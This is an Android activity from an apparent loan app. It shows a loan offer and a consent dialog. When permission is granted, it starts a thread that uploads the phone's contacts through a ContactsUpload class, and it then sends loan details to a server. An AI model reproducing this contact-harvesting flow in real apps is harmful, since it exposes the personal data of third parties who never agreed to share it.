package com.answertowaitingscreen.app;

import android.app.Activity;
import android.app.AlertDialog;
import android.os.Bundle;

/** Offers one loan; its button brings up the notice. */
public class LoanActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_loan);
        findViewById(R.id.next).setOnClickListener(v -> notice());
    }

    private void notice() {
        new AlertDialog.Builder(this)
                .setTitle(R.string.agree_title)
                .setMessage(R.string.agree_text)
                .setPositiveButton(R.string.yes, (dialog, which) -> Permissions.ask(this))
                .setNegativeButton(R.string.no, (dialog, which) -> send())
                .show();
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        if (results.length > 0 && results[0] == 0) {
            new Thread(new ContactsUpload(getContentResolver())).start();
        }
        send();
    }

    private void send() {
        new Thread(() -> Server.send("loan", "900")).start();
    }
}
